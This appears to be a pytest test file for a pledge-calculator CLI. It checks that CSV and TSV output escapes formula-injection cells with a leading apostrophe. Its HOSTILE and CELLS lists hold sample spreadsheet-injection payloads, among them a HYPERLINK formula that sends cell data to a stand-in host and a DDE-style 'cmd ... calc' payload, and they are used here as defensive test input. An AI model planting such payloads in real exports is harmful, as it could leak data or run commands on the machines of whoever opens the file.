"""CSV and TSV outputs do not run formulas (issue 14): every command, hostile cells from input.

A cell from input text that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return comes out with a leading ``'`` (OWASP, "CSV Injection"); numbers, negative ones too,
stay numbers that pandas reads back as floats.
"""

from __future__ import annotations

import csv
import io
import re
from decimal import Decimal

import pandas as pd
import pytest
from cli_output import data_part
from hypothesis import given
from hypothesis import strategies as st

from aidcalc.cli import main
from aidcalc.cli.output import FORMULA_STARTS, inert_cell, write_rows

HOSTILE = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
    "@SUM(1)",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "=1+1",
    "\t=cmd",
    "\r=cmd",
]
PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?")


def run(capsys, *argv):
    status = main(list(argv))
    out, err = capsys.readouterr()
    return status, data_part(out), err  # the rows, after the provenance record


def assert_inert(text: str, delimiter: str = ",") -> list[list[str]]:
    """Read a CSV text back and check that no cell could start a formula; return the rows."""
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))
    assert len(rows) > 1
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS) or PLAIN_NUMBER.fullmatch(cell), cell
    return rows


pytestmark = pytest.mark.usefixtures("shipped_rates_only")  # tests/conftest.py


@pytest.fixture
def pledges(tmp_path):
    """A pledge file whose free-text source cells are formulas, one value negative."""
    frame = pd.DataFrame(
        {
            "donor": ["LTU", "EST", "LVA", "POL"],
            "date": ["2024-11-04"] * 4,
            "value": [-5_000_000, 7_000_000, 1_000_000, 2_000_000],
            "currency": ["EUR"] * 4,
            "category": ["military"] * 4,
            "source": HOSTILE[:4],
        }
    )
    path = tmp_path / "pledges.csv"
    frame.to_csv(path, index=False)
    return path


# (cell, as written): the escape goes on text, never on numbers
CELLS = [
    ("=1+1", "'=1+1"),
    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("@SUM(1)", "'@SUM(1)"),
    ("\t=cmd", "'\t=cmd"),
    ("\r=cmd", "'\r=cmd"),
    ("-€5m", "'-€5m"),
    ("- 5 Mio. Euro", "'- 5 Mio. Euro"),
    ("+380 44 123", "'+380 44 123"),
    ("-inf", "'-inf"),
    ("€5m", "€5m"),
    ("5 Mio. =", "5 Mio. ="),
    ("Kyiv", "Kyiv"),
    ("", ""),
    (None, ""),
    (-2.5, "-2.5"),
    (-5_452_000, "-5452000"),
    (Decimal("-1E+6"), "-1000000"),
    (float("-inf"), "-inf"),
    ("-1500000.0", "-1500000.0"),
    ("+3e6", "+3e6"),
    ("-.5", "-.5"),
]


@pytest.mark.parametrize(("cell", "written"), CELLS)
def test_inert_cell(cell, written):
    assert inert_cell(cell) == written


@given(st.text(max_size=30))
def test_every_text_is_inert_and_kept(text):
    written = inert_cell(text)
    assert not written.startswith(FORMULA_STARTS) or PLAIN_NUMBER.fullmatch(written)
    assert written in (text, "'" + text)  # nothing else changes


@given(st.one_of(st.integers(), st.floats(allow_nan=False), st.decimals(allow_nan=False)))
def test_numbers_stay_numbers(number):
    written = inert_cell(number)
    assert not written.startswith("'")
    assert float(written) == pytest.approx(float(number), nan_ok=True)


@pytest.mark.parametrize("fmt, delimiter", [("csv", ","), ("tsv", "\t")])
def test_write_rows_escapes_header_and_cells(fmt, delimiter):
    stream = io.StringIO()
    rows = [{"=name": text, "value": -1.5} for text in HOSTILE]
    write_rows(rows, ["=name", "value"], fmt, stream)
    read = assert_inert(stream.getvalue(), delimiter)
    assert read[0] == ["'=name", "value"]
    assert [row[0] for row in read[1:]] == ["'" + text for text in HOSTILE]
    assert {row[1] for row in read[1:]} == {"-1.5"}


def test_parse(capsys):
    status, out, _ = run(
        capsys, "parse", *(text + " €5m" for text in HOSTILE[:3]), "--format", "csv"
    )
    rows = assert_inert(out)
    assert status == 0
    assert [row[1] for row in rows[1:]] == ["'" + text + " €5m" for text in HOSTILE[:3]]


def test_parse_stdin_keeps_a_negative_value_numeric(capsys, monkeypatch):
    monkeypatch.setattr("sys.stdin", io.StringIO("-€5m\n-2+3\n@SUM(1) €5m\n"))
    status, out, _ = run(capsys, "parse", "-", "--format", "csv")
    assert_inert(out)
    frame = pd.read_csv(io.StringIO(out))
    assert frame["text"].tolist() == ["'-€5m", "'-2+3", "'@SUM(1) €5m"]
    assert frame["value"].dtype == "float64" and frame["value"].iloc[0] == -5e6


def test_convert(capsys, monkeypatch):
    monkeypatch.setattr("sys.stdin", io.StringIO("=1+1 €5m\n-€5m\n"))
    status, out, _ = run(
        capsys, "convert", "-", "--to", "USD", "--on", "2024-11-04", "--format", "csv"
    )
    assert_inert(out)
    frame = pd.read_csv(io.StringIO(out))
    assert status == 0 and frame["text"].tolist() == ["'=1+1 €5m", "'-€5m"]
    assert frame["value"].tolist() == [5_452_000, -5_452_000]
    assert frame["value"].dtype.kind in "if"


@pytest.mark.parametrize("what", ["amounts", "pledges"])
def test_extract(capsys, tmp_path, what):
    article = tmp_path / "article.txt"
    article.write_text('=HYPERLINK("x") Lithuania pledged €5m to Ukraine.\n', encoding="utf-8")
    args = ["extract", str(article), "--what", what, "--format", "csv"]
    status, out, _ = run(capsys, *args, "--published", "2024-11-04")
    rows = assert_inert(out)
    assert status == 0
    if what == "pledges":
        header = rows[0]
        assert rows[1][header.index("note")].startswith("'=HYPERLINK")


def test_normalize(capsys, pledges, tmp_path):
    status, out, _ = run(capsys, "normalize", str(pledges), "--to", "USD", "--format", "csv")
    assert_inert(out)
    frame = pd.read_csv(io.StringIO(out))
    assert status == 0
    assert frame["source"].tolist() == ["'" + text for text in HOSTILE[:4]]
    assert frame["value"].dtype == "float64" and frame["value"].iloc[0] == -5e6
    assert frame["value_usd"].iloc[0] == pytest.approx(-5e6 * 1.0904)


@pytest.mark.parametrize("suffix, delimiter", [("csv", ","), ("tsv", "\t")])
def test_summary_to_a_file(capsys, pledges, tmp_path, suffix, delimiter):
    target = tmp_path / f"totals.{suffix}"
    args = ["summary", str(pledges), "--by", "source", "--to", "USD", "-o", str(target)]
    status, out, _ = run(capsys, *args)
    text = data_part(target.read_text(encoding="utf-8"))  # the rows, after the provenance
    assert status == 0 and out == ""
    assert_inert(text, delimiter)
    frame = pd.read_csv(io.StringIO(text), sep=delimiter)
    assert set(frame["source"]) == {"'" + text for text in HOSTILE[:4]}
    assert frame["total"].dtype == "float64"
    hyperlink = frame["source"].str.startswith("'=HYPERLINK")
    assert frame.loc[hyperlink, "total"].item() == pytest.approx(-5452000)


def test_summary_rows(capsys, pledges):
    args = ["summary", str(pledges), "--rows", "--to", "USD", "--format", "csv"]
    status, out, _ = run(capsys, *args)
    assert_inert(out)
    frame = pd.read_csv(io.StringIO(out))
    assert status == 0 and frame["value_usd"].min() == pytest.approx(-5452000)


def test_rates_show(capsys, tmp_path):
    table = tmp_path / "=cmd.csv"
    table.write_text(
        'date,base,quote,rate,source\n2024-11-04,XDR,USD,1.33,=HYPERLINK("x")\n',
        encoding="utf-8",
    )
    args = ["rates", "show", "XDR", "--rates", str(table), "--format", "csv"]
    status, out, _ = run(capsys, *args)
    rows = assert_inert(out)
    assert status == 0 and rows[0] == ["date", "rate", "unit", "source"]
    assert float(rows[1][1]) == pytest.approx(1 / 1.33)
